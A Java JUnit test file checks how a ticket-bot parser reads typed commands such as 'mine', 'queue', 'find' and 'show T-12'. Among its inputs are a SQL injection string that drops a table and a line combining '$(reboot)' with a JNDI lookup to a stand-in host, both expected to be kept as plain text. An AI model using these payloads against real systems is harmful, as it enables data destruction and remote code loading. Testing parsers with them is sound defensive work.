package dev.tocsin.ticket;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tocsin.ticket.TicketLine.Find;
import dev.tocsin.ticket.TicketLine.Help;
import dev.tocsin.ticket.TicketLine.Look;
import dev.tocsin.ticket.TicketLine.Mine;
import dev.tocsin.ticket.TicketLine.Open;
import dev.tocsin.ticket.TicketLine.Queue;
import dev.tocsin.ticket.TicketLine.Way;
import dev.tocsin.ticket.TicketLine.WhichTicket;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What people type after the command. */
class TicketLineTest {
    static Stream<Arguments> lines() {
        return Stream.of(
                // A new ticket
                line("", open("")),
                line("   ", open("")),
                line("search is slow", open("search is slow")),
                line("  search is slow  ", open("search is slow")),
                line("Globex: SSO broken since this morning", open("Globex: SSO broken since this morning")),
                line("first line\nsecond line", open("first line\nsecond line")),
                line("show stopper in search", open("show stopper in search")),
                line("SHOW stopper in search", open("SHOW stopper in search")),
                line("sla missed for Globex again", open("sla missed for Globex again")),
                line("history tab is empty", open("history tab is empty")),
                line("help me please", open("help me please")),
                line("Help! search is down", open("Help! search is down")),
                line("mine is broken", open("mine is broken")),
                line("my tickets", open("my tickets")),
                line("queue workers are stuck", new Queue("workers are stuck")),
                line("finding nothing", open("finding nothing")),
                line("showing 500s", open("showing 500s")),
                line("12", open("12")),
                line("500", open("500")),
                line("T-0", open("T-0")),
                line("T-12 is back", open("T-12 is back")),
                line("#12 again", open("#12 again")),
                line("T-1234567890", open("T-1234567890")),
                line("T-12a", open("T-12a")),
                line("show T-12 and T-13", open("show T-12 and T-13")),
                line("открой тикет", open("открой тикет")),
                line("🔥🔥🔥", open("🔥🔥🔥")),
                line("<!channel> &lt;b&gt; *bold* `code`", open("<!channel> &lt;b&gt; *bold* `code`")),
                line("\u202eتوقف", open("\u202eتوقف")),
                line("' or 1=1; drop table ticket; --", open("' or 1=1; drop table ticket; --")),
                line("$(reboot) ${jndi:ldap://evil}", open("$(reboot) ${jndi:ldap://evil}")),
                line("\u00a0mine", open("\u00a0mine")),
                line("/ticket mine", open("/ticket mine")),
                // What is theirs, and what waits
                line("mine", new Mine()),
                line("  MINE\n", new Mine()),
                line("queue", new Queue("")),
                line("Queue billing", new Queue("billing")),
                line("queue   Billing ", new Queue("Billing")),
                line("find", new Help()),
                line("FIND ", new Help()),
                line("find globex", new Find("globex")),
                line("Find  Globex   SSO", new Find("Globex SSO")),
                line("find T-12", new Look(Way.SHOW, 12)),
                line("find 12", new Find("12")),
                line("T 12", new Look(Way.SHOW, 12)),
                line("queue Code  Hosts", new Queue("Code Hosts")),
                line("find <!channel>", new Find("<!channel>")),
                line("help", new Help()),
                line("HELP", new Help()),
                // One ticket
                line("T-12", new Look(Way.SHOW, 12)),
                line("t-12", new Look(Way.SHOW, 12)),
                line("t12", new Look(Way.SHOW, 12)),
                line("T_12", new Look(Way.SHOW, 12)),
                line(" #12 ", new Look(Way.SHOW, 12)),
                line("T-999999999", new Look(Way.SHOW, 999_999_999)),
                line("show T-12", new Look(Way.SHOW, 12)),
                line("Show t12", new Look(Way.SHOW, 12)),
                line("show #12", new Look(Way.SHOW, 12)),
                line("show 12", new Look(Way.SHOW, 12)),
                line("show T 12", new Look(Way.SHOW, 12)),
                line("sla T-7", new Look(Way.SLA, 7)),
                line("SLA   7", new Look(Way.SLA, 7)),
                line("history\tT-7", new Look(Way.HISTORY, 7)),
                // A way of looking, and no number
                line("show", new WhichTicket(Way.SHOW, "")),
                line("sla", new WhichTicket(Way.SLA, "")),
                line("History", new WhichTicket(Way.HISTORY, "")),
                line("show T-0", new WhichTicket(Way.SHOW, "T-0")),
                line("show 1234567890", new WhichTicket(Way.SHOW, "1234567890")),
                line("sla Globex", new WhichTicket(Way.SLA, "Globex")),
                line("history <!channel>", new WhichTicket(Way.HISTORY, "<!channel>")));
    }

    private static Arguments line(String typed, TicketLine meant) {
        return Arguments.of(typed, meant);
    }

    private static TicketLine open(String summary) {
        return new Open(summary);
    }

    @ParameterizedTest
    @MethodSource("lines")
    void a_line_means(String typed, TicketLine meant) {
        assertThat(TicketLine.parse(typed)).isEqualTo(meant);
    }

    static LongStream seeds() {
        return LongStream.range(0, 50);
    }

    /** Words that mean something, words that do not, and what breaks parsers. */
    private static final List<String> WORDS = List.of(
            "show", "SLA", "history", "find", "Mine", "queue", "help", "T-12", "#7", "12", "search", "is", "slow",
            "<!here>", "&", "🔥", "\u202e", "\"", "for", "\n", "\t", "");

    @ParameterizedTest
    @MethodSource("seeds")
    void no_word_that_was_typed_is_lost(long seed) {
        var random = new Random(seed);
        for (int i = 0; i < 2_000; i++) {
            var typed = random.ints(random.nextInt(6), 0, WORDS.size())
                    .mapToObj(WORDS::get)
                    .collect(Collectors.joining(" "));
            var line = TicketLine.parse(typed);
            var as = "seed %d, typed %s".formatted(seed, typed);
            if (line instanceof Open meant) {
                assertThat(meant.summary()).as(as).isEqualTo(typed.strip());
            } else {
                assertThat(words(kept(line)))
                        .as(as)
                        .isEqualTo(
                                words(typed.replaceFirst("(?i)^\\s*(show|sla|history|mine|queue|find|help)\\b", "")));
            }
        }
    }

    /** What the line keeps beside its verb. */
    private static String kept(TicketLine line) {
        if (line instanceof Look look) {
            return String.valueOf(look.number());
        } else if (line instanceof WhichTicket which) {
            return which.typed();
        } else if (line instanceof Find find) {
            return find.words();
        }
        return line instanceof Queue queue ? queue.queue() : "";
    }

    private static String words(String text) {
        var number = TicketNumber.parse(text);
        return number.isPresent()
                ? String.valueOf(number.get())
                : Arrays.stream(text.strip().split("\\s+")).collect(Collectors.joining(" "));
    }
}
